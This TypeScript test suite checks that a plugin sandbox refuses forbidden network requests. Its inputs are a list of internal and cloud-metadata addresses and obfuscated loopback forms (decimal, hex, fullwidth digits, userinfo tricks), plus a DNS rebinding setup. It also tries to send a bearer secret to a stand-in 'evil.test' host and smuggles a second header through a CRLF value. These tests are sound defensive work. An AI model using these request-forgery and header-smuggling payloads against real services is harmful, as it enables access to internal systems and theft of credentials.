import { setTimeout as sleep } from 'node:timers/promises'
import { test } from '@japa/runner'
import { survived } from './attacks.js'
import type { Aftermath, Arena } from './arena.js'
import { SECRET } from './arena.js'
import { useArena } from './shared_arena.js'

/** What a plugin asks for, and the outcomes as it is told them, in the order of the requests. */
interface Told {
  readonly ok: boolean
  readonly value?: { readonly status: number; readonly headers: object; readonly body: string }
  readonly error?: { readonly code: string; readonly message: string }
}

/** Lets a plugin with these permissions send these requests, and gathers what it is told. */
async function ask(
  arena: Arena,
  permissions: readonly string[],
  requests: readonly (string | Readonly<Record<string, unknown>>)[],
  waitMs = 12_000
): Promise<Aftermath & { readonly told: readonly Told[] }> {
  const id = arena.newId()
  const all = JSON.stringify(requests.map((one) => (typeof one === 'string' ? { url: one } : one)))
  const tell = `context.log('#' + at + ' ' + JSON.stringify(r))`
  // What the runtime refuses itself is thrown at the call.
  const refused = `const r = { ok: false, error: { code: 'invalid', message: e.message } }; ${tell}`
  const body = `${ascii(all)}.forEach((request, at) => { try { context.http(request, (r) => ${tell}) } catch (e) { ${refused} } })`
  const fight = await arena.fight({ id, permissions, body }, async (key) => {
    await arena.host.ask(key, { type: 'timer', name: 'x', atMs: Date.now() })
    const until = Date.now() + waitMs
    while ((arena.lines.get(id) ?? []).length < requests.length && Date.now() < until) {
      await sleep(10)
    }
  })
  const told: Told[] = []
  for (const line of arena.lines.get(id) ?? []) {
    const [, at, json] = /^#(\d+) (.*)$/s.exec(line) ?? []
    if (at !== undefined) told[Number(at)] = JSON.parse(json as string) as Told
  }
  return { ...fight, told }
}

const ascii = (text: string) =>
  text.replace(/[^ -~]/g, (one) => `\\u${one.charCodeAt(0).toString(16).padStart(4, '0')}`)

const codes = (told: readonly Told[]) => told.map((one) => one.error?.code ?? 'ok')

/** Addresses of this machine, of private networks and of the keys of clouds, in every disguise. */
const INWARD = [
  '169.254.169.254',
  '127.0.0.1',
  '10.0.0.1',
  '172.16.3.4',
  '192.168.1.1',
  '100.64.0.1',
  '100.100.100.200',
  '0.0.0.0',
  '255.255.255.255',
  '::1',
  '::',
  'fe80::1',
  'fd00::1',
  'fd00:ec2::254',
  '::ffff:127.0.0.1',
  '::ffff:a9fe:a9fe',
  '::7f00:1',
  '64:ff9b::7f00:1',
  '2002:7f00:1::',
  '2001:0:7f00:1::',
]

test.group('plugins that reach where they may not', (group) => {
  const arena = useArena(group)
  group.each.timeout(40_000)

  // It takes ten seconds, so it begins before the others.
  let slow: ReturnType<typeof ask> | null = null
  group.setup(() => {
    const { port } = arena().landscape
    const urls = ['/large', '/packed', '/endless'].map((path) => `https://api.test:${port}${path}`)
    slow = ask(arena(), [`net:connect@api.test:${port}#private`], urls)
  })

  test('a granted name that leads inward is refused, whatever address it is given', async ({
    assert,
  }) => {
    const { dns } = arena().landscape
    const names = INWARD.map((address, at) => {
      dns.answer(`inward${at}.test`, [address])
      return `inward${at}.test`
    })
    // One good address beside a bad one is as bad.
    dns.answer('mixed.test', ['93.184.216.34', '127.0.0.1'])
    names.push('mixed.test')
    for (const some of [names.slice(0, 10), names.slice(10, 20), names.slice(20)]) {
      const permissions = some.map((name) => `net:connect@${name}`)
      const urls = some.map((name) => `https://${name}/`)
      const { told, ...aftermath } = await ask(arena(), permissions, urls)
      assert.deepEqual([...new Set(codes(told))], ['address_refused'])
      assert.lengthOf(told, some.length)
      survived(assert, aftermath)
    }
  })

  test('numbers, hexadecimal, short forms, strange digits and user names are the same address', async ({
    assert,
  }) => {
    const { port } = arena().landscape
    const hosts = [
      '2130706433',
      '0x7f.1',
      '127.1',
      '0177.0.0.1',
      '\uff11\uff12\uff17.0.0.1',
      '\u2460\u2461\u2466.0.0.1',
      '[::ffff:127.0.0.1]',
      'api.test@127.0.0.1',
      'api.test%40127.0.0.1',
      'api.test:443@127.0.0.1',
      'api.test\\@127.0.0.1',
      'api.test#@127.0.0.1',
      'api.test?@127.0.0.1/',
    ]
    const before = arena().landscape.asked.length
    const { told, ...aftermath } = await ask(
      arena(),
      ['net:connect@api.test'],
      hosts.map((host) => `https://${host}:${port}/stolen`)
    )
    assert.lengthOf(told, hosts.length)
    for (const [at, one] of told.entries()) {
      assert.isFalse(one.ok, hosts[at])
      assert.match(one.error?.code ?? '', /^(not_granted|invalid|unreachable|address_refused)$/)
    }
    assert.notInclude(arena().landscape.asked.slice(before), '/stolen')
    survived(assert, aftermath)
    assert.include(aftermath.audited, 'effect.refused')
  })

  test('a name that changes its address between question and connection is asked once', async ({
    assert,
  }) => {
    const { dns, port } = arena().landscape
    let questions = 0
    // The question for IPv4 and that for IPv6 are two.
    dns.answer('rebind.test', () => (questions++ < 2 ? ['127.0.0.1'] : ['169.254.169.254']))
    const { told, ...aftermath } = await ask(
      arena(),
      [`net:connect@rebind.test:${port}#private`],
      [`https://rebind.test:${port}/`]
    )
    assert.deepEqual(codes(told), ['ok'])
    assert.lengthOf(
      dns.asked.filter((name) => name === 'rebind.test'),
      1
    )
    const { told: later } = await ask(
      arena(),
      [`net:connect@rebind.test:${port}#private`],
      [`https://rebind.test:${port}/`]
    )
    assert.deepEqual(codes(later), ['address_refused'])
    survived(assert, aftermath)
  })

  test('a redirect is told and not followed', async ({ assert }) => {
    const { port, asked } = arena().landscape
    const { told, ...aftermath } = await ask(
      arena(),
      [`net:connect@api.test:${port}#private`],
      [`https://api.test:${port}/redirect`]
    )
    assert.equal(told[0]?.value?.status, 302)
    assert.notInclude(asked, '/private')
    survived(assert, aftermath)
  })

  test('hosts that merely look granted are not', async ({ assert }) => {
    const urls = [
      'https://evil.test/?.good.test/',
      'https://good.test.evil.test/',
      'https://evilgood.test/',
      'https://a.b.good.test/',
      'https://good.test/',
      'https://evil.test#.good.test',
      'https://xn--good-test.test/',
      'https://a.good.test:8443/',
      'http://a.good.test/',
      'ftp://a.good.test/',
      'javascript:alert(1)',
      'data:text/plain,x',
      '//a.good.test/',
      `https://${'a'.repeat(250)}.good.test/`,
    ]
    const { told, ...aftermath } = await ask(arena(), ['net:connect@*.good.test'], urls)
    assert.isFalse(told.some((one) => one.ok))
    assert.lengthOf(told, urls.length)
    assert.includeMembers(['not_granted', 'invalid'], codes(told).slice(0, -1))
    survived(assert, aftermath)
  })

  test('a dot at the end, capitals and the usual port are the granted host', async ({ assert }) => {
    const urls = [
      'https://API.other.test/',
      'https://api.other.test./',
      'https://api.other.test:443/',
    ]
    const { told, ...aftermath } = await ask(arena(), ['net:connect@api.other.test'], urls)
    // Granted, and then no name server knows it.
    assert.deepEqual(codes(told), ['name_not_found', 'name_not_found', 'name_not_found'])
    survived(assert, aftermath)
  })

  test('a secret that a server sends back is taken out, and goes nowhere else', async ({
    assert,
  }) => {
    const { port, dns } = arena().landscape
    dns.answer('evil.test', ['127.0.0.1'])
    const authorization = 'Bearer {{secret:api_key}}'
    const { told, ...aftermath } = await ask(
      arena(),
      [
        `net:connect@api.test:${port}#private`,
        `net:connect@evil.test:${port}#private`,
        'secrets:api_key',
      ],
      [
        { url: `https://api.test:${port}/echo`, headers: { authorization } },
        { url: `https://evil.test:${port}/echo`, headers: { authorization } },
        { url: `https://api.test:${port}/{{secret:api_key}}` },
        { url: `https://{{secret:api_key}}.api.test:${port}/` },
        { url: `https://api.test:${port}/`, headers: { authorization: '{{secret:other}}' } },
      ]
    )
    const all = JSON.stringify(told)
    assert.include(all, 'you said Bearer')
    assert.notInclude(all, SECRET.value)
    assert.notInclude(all, Buffer.from(`Bearer ${SECRET.value}`).toString('base64'))
    assert.notInclude(all, 'session=stolen')
    assert.deepEqual(
      told.map((one) => one.ok),
      [true, false, false, false, false]
    )
    survived(assert, aftermath)
  })

  test('headers that pretend to be somebody else are refused', async ({ assert }) => {
    const { port } = arena().landscape
    const url = `https://api.test:${port}/`
    const names = [
      'host',
      'cookie',
      'x-forwarded-for',
      'connection',
      'transfer-encoding',
      'proxy-authorization',
    ]
    const { told, ...aftermath } = await ask(
      arena(),
      [`net:connect@api.test:${port}#private`],
      [
        ...names.map((name) => ({ url, headers: { [name]: 'x' } })),
        { url, headers: { accept: 'x\r\nhost: evil.test' } },
        { url, method: 'CONNECT' },
      ]
    )
    assert.lengthOf(told, names.length + 2)
    assert.isFalse(told.some((one) => one.ok))
    survived(assert, aftermath)
  })

  test('answers that are too large, packed too well or never end are cut off', async ({
    assert,
  }) => {
    const { told, ...aftermath } = await slow!
    assert.deepEqual(codes(told), ['too_large', 'too_large', 'timed_out'])
    survived(assert, aftermath)
  })
})
